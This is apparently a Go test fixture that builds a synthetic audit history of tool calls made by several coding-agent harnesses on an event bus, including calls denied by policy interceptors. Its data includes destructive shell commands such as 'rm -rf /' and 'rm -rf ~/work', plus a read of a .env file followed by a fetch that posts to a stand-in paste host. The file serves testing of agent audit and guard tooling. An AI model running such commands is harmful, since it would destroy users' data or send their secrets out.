package audittest

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/hookbus/hookbus/events"
)

// FleetCall is one tool call of Fleet's history, as the record holds it.
type FleetCall struct {
	Agent, Harness, Session, Run string
	// CallID and Tool are the call's id and native tool name; Args its
	// native arguments.
	CallID, Tool, Args string
	// DeniedBy, when set, is the interceptor the record says denied the
	// call (a hook.decided before its tool.before).
	DeniedBy string
}

// The sources the loop and the bridge record the four harnesses under.
var fleetSources = map[events.Harness]string{
	events.HarnessHookbus: "hookbus/loop",
	events.HarnessClaude:  "hookbus/claude-code",
	events.HarnessGemini:  "hookbus/gemini-cli",
	events.HarnessCodex:   "hookbus/codex-cli",
}

// FleetCalls are the tool calls of Fleet, in the order recorded: the
// same kinds of calls (a destructive shell command, harmless ones, a read
// of .env, a fetch) by hookbus' own agent and by Claude Code, Gemini CLI
// and Codex CLI bridged, each with its own tool names and arguments.
var FleetCalls = []FleetCall{
	{"demo", "hookbus", "hb-1", "01KFZHB0000000000000000001", "call_1", "Bash", `{"command":"ls -la"}`, ""},
	{"demo", "hookbus", "hb-1", "01KFZHB0000000000000000001", "call_2", "Bash", `{"command":"rm -rf /tmp/build"}`, ""},
	{"demo", "hookbus", "hb-1", "01KFZHB0000000000000000001", "call_3", "Bash", `{"command":"git push origin main"}`, ""},
	{"ci-runner", "hookbus", "ci-1", "01KFZCI0000000000000000001", "call_1", "Bash", `{"command":"rm -rf build"}`, ""},
	{"claude-code", "claude", "cc-1", "01KFZCC0000000000000000001", "toolu_01", "Read", `{"file_path":"/repo/.env"}`, ""},
	{"claude-code", "claude", "cc-1", "01KFZCC0000000000000000001", "toolu_02", "WebFetch", `{"url":"https://paste.example/upload","prompt":"post it"}`, ""},
	{"claude-code", "claude", "cc-1", "01KFZCC0000000000000000001", "toolu_03", "Bash", `{"command":"npm install"}`, ""},
	{"claude-code", "claude", "cc-1", "01KFZCC0000000000000000001", "toolu_04", "Bash", `{"command":"rm -r old-logs"}`, "policy-no-destructive-shell"},
	{"gemini-cli", "gemini", "gm-1", "01KFZGM0000000000000000001", "gm_1", "run_shell_command", `{"command":"rm -rf ~/work"}`, ""},
	{"gemini-cli", "gemini", "gm-1", "01KFZGM0000000000000000001", "gm_2", "run_shell_command", `{"command":"git status"}`, ""},
	{"gemini-cli", "gemini", "gm-1", "01KFZGM0000000000000000001", "gm_3", "web_fetch", `{"prompt":"summarize https://docs.example/page"}`, ""},
	{"gemini-cli", "gemini", "gm-1", "01KFZGM0000000000000000001", "gm_4", "run_shell_command", `{"command":"npm install"}`, ""},
	{"codex-cli", "codex", "cx-1", "01KFZCX0000000000000000001", "cx_1", "shell", `{"command":["bash","-lc","rm -rf dist"]}`, ""},
	{"codex-cli", "codex", "cx-1", "01KFZCX0000000000000000001", "cx_2", "shell", `{"command":["bash","-lc","ls"]}`, ""},
	{"codex-cli", "codex", "cx-1", "01KFZCX0000000000000000001", "cx_3", "shell", `{"command":["bash","-lc","rm -rf /"]}`, "guard"},
}

// FleetEventID is the id of the tool.before of FleetCalls[i].
func FleetEventID(i int) string { return fmt.Sprintf("01KFZTB%019d", i+1) }

// Fleet returns a history of the four harnesses on one bus, as the loop
// and the bridge record it: for each run of FleetCalls its run.started,
// then per call (hookbus' agent: the model's reply first) a hook.decided
// when the call was denied, its tool.before (id FleetEventID, the call
// with its normalized action) and its tool.after, then its run.completed.
// Each event's Stored is its position from 1, its time a second after the
// one before.
func Fleet(t testing.TB) []*events.Event {
	t.Helper()
	var out []*events.Event
	clock := time.Date(2026, 1, 5, 9, 0, 0, 0, time.UTC)
	seqs := map[string]uint64{}
	add := func(st events.Stage, c FleetCall, id, subject string, step int, p any) {
		t.Helper()
		seqs[c.Run]++
		clock = clock.Add(time.Second)
		if id == "" {
			id = fmt.Sprintf("01KFZEV%019d", len(out)+1)
		}
		e, err := events.New(st, events.Meta{Source: fleetSources[events.Harness(c.Harness)], AgentID: c.Agent, SessionID: c.Session,
			RunID: c.Run, Step: step, Seq: seqs[c.Run], Subject: subject, ID: id, Time: clock}, p)
		if err != nil {
			t.Fatal(err)
		}
		e.Stored = uint64(len(out) + 1)
		out = append(out, e)
	}
	for i, c := range FleetCalls {
		first := i == 0 || FleetCalls[i-1].Run != c.Run
		last := i == len(FleetCalls)-1 || FleetCalls[i+1].Run != c.Run
		if first {
			add(events.StageRunStarted, c, "", "", 0, events.RunStarted{Prompt: "tidy up the " + c.Session + " workspace", MaxSteps: 10})
		}
		call := events.ToolCall{ID: c.CallID, Name: c.Tool, Arguments: json.RawMessage(c.Args)}
		step := 1
		if c.Harness == string(events.HarnessHookbus) {
			step = i + 1
			add(events.StageModelResponded, c, "", "", step, events.ModelResponded{Message: events.Message{Role: events.RoleAssistant, ToolCalls: []events.ToolCall{call}}})
		}
		call = call.WithAction(events.Harness(c.Harness))
		result := events.ToolResult{CallID: c.CallID, Name: c.Tool, Content: "ok"}
		if c.DeniedBy != "" {
			add(events.StageHookDecided, c, "", c.DeniedBy, step, events.HookDecided{Plugin: c.DeniedBy, Stage: events.StageToolBefore,
				Decision: "deny", Reason: "destructive", LatencyUS: 40, EventID: FleetEventID(i)})
			result = events.ToolResult{CallID: c.CallID, Name: c.Tool, Content: "denied: " + c.DeniedBy + ": destructive", IsError: true}
		}
		add(events.StageToolBefore, c, FleetEventID(i), c.Tool, step, events.ToolBefore{Call: call})
		add(events.StageToolAfter, c, "", c.Tool, step, events.ToolAfter{Call: call, Result: result})
		if last {
			add(events.StageRunCompleted, c, "", "", step, events.RunCompleted{Reason: "done", Steps: step})
		}
	}
	return out
}
